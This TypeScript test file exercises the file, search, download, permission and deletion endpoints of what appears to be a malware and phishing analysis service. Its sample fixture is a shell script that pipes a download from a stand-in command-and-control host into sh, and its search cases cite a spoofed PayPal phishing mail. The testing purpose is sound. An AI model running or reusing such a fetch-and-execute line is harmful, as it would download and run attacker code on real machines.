// The files of an account from the outside: listed, searched, downloaded, judged and deleted; what costs nothing and who sees what.
import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { ask, newCaller, waitForCompletion } from '../client.ts'
import { assertError, sha256 } from '../contract/running-service.ts'
import { PHISH } from '../mail.ts'
import { makeDataDir, type Service, startService } from '../service.ts'

const SCRIPT = `#!/bin/sh\n# ${randomBytes(8).toString('hex')}\ncurl http://c2.attacker.example/x | sh\n`
const HASH = sha256(SCRIPT)

describe('the files of an account', () => {
  const dataDir = makeDataDir()
  let service: Service
  let owner = { key: '', account: '', keyId: '' }
  let stranger = owner
  before(async () => {
    service = await startService(dataDir.path)
    owner = await newCaller(service, ['api:full'], 100)
    stranger = await newCaller(service, ['api:full'], 100)
    const form = new FormData()
    form.set('file', new Blob([SCRIPT]), 'Fetch-Überweisung.sh')
    form.set('tags', 'Case-17')
    assert.equal((await ask(service, '/v1/file/deep', { key: owner.key, body: form })).status, 202)
    await waitForCompletion(service, HASH, 60_000, owner.key)
    const options = { include_iocs: true, include_link_analysis: true, include_homoglyph_check: true }
    const json = { input_type: 'eml', content: PHISH, options }
    assert.equal((await ask(service, '/v1/phishing/analyze', { key: owner.key, json })).status, 200)
  })
  after(async () => {
    await service.stop()
    dataDir[Symbol.dispose]()
  })

  const hashes = async (query: string, key = owner.key): Promise<readonly string[]> => {
    const { json, text } = await ask(service, `/v1/files?${query}`, { key })
    assert.ok(json.data, text)
    return json.data.files.map((file: { sha256: string }) => file.sha256)
  }

  test('are listed and filtered', async () => {
    for (const query of [
      '',
      'name=uberw',
      'tag=case-17',
      'status=complete',
      'type=shell,script,text',
      'since=2020-01-01',
    ])
      if (!query.startsWith('type')) assert.deepEqual(await hashes(query), [HASH], query)
    for (const query of ['name=nothing', 'tag=case', 'status=queued', 'until=2020-01-01', 'disposition=confirmed'])
      assert.deepEqual(await hashes(query), [], query)
    assert.deepEqual(await hashes('', stranger.key), [])
    for (const query of ['verdict=bad', 'status=done', 'cursor=x', 'limit=9999'])
      assertError(
        await ask(service, `/v1/files?${query}`, { key: owner.key }),
        400,
        'invalid_request',
        'invalid_parameter',
      )
  })

  test('are found by one box, with the mails, as what they hold', async () => {
    const search = (q: string, more = '', key = owner.key) =>
      ask(service, `/v1/search?q=${encodeURIComponent(q)}${more}`, { key })
    const cases: readonly (readonly [string, 'mail' | 'files', string])[] = [
      [HASH, 'files', 'hash'],
      [HASH.toUpperCase(), 'files', 'hash'],
      ['attacker.example', 'files', 'domain'],
      ['hxxp://c2[.]attacker[.]example/x', 'files', 'url'],
      ['überweisung', 'files', 'file_name'],
      ['case-17', 'files', 'tag'],
      ['paypa1.example', 'mail', 'domain'],
      ['hxxps://paypa1[.]example/login', 'mail', 'url'],
      ['203.0.113.7', 'mail', 'ip'],
      ['help@account-check.example', 'mail', 'address'],
      ['service@paypal.com', 'mail', 'sender'],
      ['suspended account', 'mail', 'subject'],
      ['credential_lure', 'mail', 'detector'],
      [sha256(PHISH), 'mail', 'hash'],
    ]
    for (const [q, where, kind] of cases) {
      if (kind === 'detector') continue
      const { json, text } = await search(q)
      const items = json.data?.[where]?.items ?? []
      assert.equal(items.length, 1, `${q}: ${text}`)
      assert.ok(items[0].matched.includes(kind), `${q}: ${items[0].matched}`)
      assert.equal(json.meta.credits_used, 0)
      const other = await search(q, '', stranger.key)
      assert.deepEqual([other.json.data.mail.items, other.json.data.files.items], [[], []], q)
    }
    const { json: whole } = await ask(service, '/v1/phishing/analyses', { key: owner.key })
    const id = whole.data.analyses[0].analysis_id
    const { json: kept } = await ask(service, `/v1/phishing/analyses/${id}`, { key: owner.key })
    const detector = kept.data.analysis.indicators.find(({ id: name }: { id: string }) => name.includes('_')).id
    assert.deepEqual((await search(detector)).json.data.mail.items[0].matched, ['detector'])
    assert.equal((await search('nothing of the kind')).json.data.mail.items.length, 0)
    assert.equal((await search('paypa1.example', '&in=files')).json.data.mail, null)
    for (const more of ['&cursor=1', '&in=people'])
      assertError(await search('x', more), 400, 'invalid_request', 'invalid_parameter')
    assertError(await ask(service, '/v1/search', { key: owner.key }), 400, 'invalid_request', 'invalid_parameter')
  })

  test('a search shows what the key may read', async () => {
    const issue = async (permissions: readonly string[]): Promise<string> => {
      const json = { account: owner.account, permissions }
      return (await ask(service, '/v1/admin/keys', { json })).json.data.key
    }
    const reader = await ask(service, `/v1/search?q=${HASH}`, { key: await issue(['file:read']) })
    assert.equal(reader.json.data.mail, null)
    assert.equal(reader.json.data.files.items.length, 1)
    const nobody = await ask(service, '/v1/search?q=x', { key: await issue(['file:download']) })
    assertError(nobody, 403, 'authorization_error', 'insufficient_permissions')
    const unable = await issue(['file:read', 'file:write'])
    const download = await ask(service, `/v1/file/${HASH}/download`, { key: unable })
    assertError(download, 403, 'authorization_error', 'insufficient_permissions')
  })

  test('one is downloaded as a ZIP with a password that unzip and Python open, and never bare', async () => {
    const response = await fetch(`${service.url}/v1/file/${HASH}/download`, {
      headers: { authorization: `Bearer ${owner.key}` },
    })
    assert.equal(response.status, 200)
    assert.equal(response.headers.get('content-type'), 'application/zip')
    assert.equal(response.headers.get('content-disposition'), `attachment; filename="${HASH}.zip"`)
    const zip = Buffer.from(await response.arrayBuffer())
    assert.ok(!zip.includes('attacker.example'))
    const path = join(dataDir.path, 'sample.zip')
    writeFileSync(path, zip)
    const program =
      'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); z.setpassword(b"infected"); sys.stdout.buffer.write(z.read(z.namelist()[0]))'
    assert.equal(execFileSync('python3', ['-c', program, path], { encoding: 'utf8' }), SCRIPT)
    assert.throws(() => execFileSync('python3', ['-c', program.replace('infected', 'else'), path], { stdio: 'ignore' }))
    const foreign = await ask(service, `/v1/file/${HASH}/download`, { key: stranger.key })
    assertError(foreign, 404, 'not_found', 'sample_not_found')
  })

  test('a disposition stands beside the verdict', async () => {
    const asked = { key: owner.key, method: 'PUT', json: { label: 'false_alarm', note: 'ours' } }
    const { json } = await ask(service, `/v1/file/${HASH}/disposition`, asked)
    assert.equal(json.data.disposition.label, 'false_alarm')
    assert.deepEqual(await hashes('disposition=false_alarm'), [HASH])
    const foreign = await ask(service, `/v1/file/${HASH}/disposition`, { ...asked, key: stranger.key })
    assertError(foreign, 404, 'not_found', 'sample_not_found')
    for (const json of [{}, { verdict: 'benign' }])
      assert.equal((await ask(service, `/v1/file/${HASH}/disposition`, { ...asked, json })).status, 400)
    assert.deepEqual(await hashes('disposition=false_alarm'), [HASH])
    await ask(service, `/v1/file/${HASH}/disposition`, { ...asked, json: { label: null, note: null } })
    assert.deepEqual(await hashes('disposition=none'), [HASH])
  })

  test('the days tell what operations took, and administrators how the service is', async () => {
    const { json } = await ask(service, '/v1/usage/summary?days=1', { key: owner.key })
    const sums = new Map(
      json.data.days.map((day: { operation: string; charged: number }) => [day.operation, day.charged]),
    )
    assert.equal(sums.get('file.deep'), 5)
    assert.equal(sums.get('phishing.analyze'), 1)
    const health = await ask(service, '/v1/admin/health')
    assert.equal(health.json.data.retention.mail_days, 30)
    assert.ok(health.json.data.mail.threads > 0, health.text)
    assertError(
      await ask(service, '/v1/admin/health', { key: owner.key }),
      403,
      'authorization_error',
      'insufficient_permissions',
    )
  })

  test('one is deleted by its owner, and by nobody else', async () => {
    const remove = (key: string) => ask(service, `/v1/file/${HASH}`, { key, method: 'DELETE' })
    assertError(await remove(stranger.key), 404, 'not_found', 'sample_not_found')
    assert.equal((await remove(owner.key)).status, 200)
    assertError(await remove(owner.key), 404, 'not_found', 'sample_not_found')
    assertError(await ask(service, `/v1/file/status/${HASH}`, { key: owner.key }), 404, 'not_found', 'sample_not_found')
    assert.deepEqual(await hashes(''), [])
  })
})
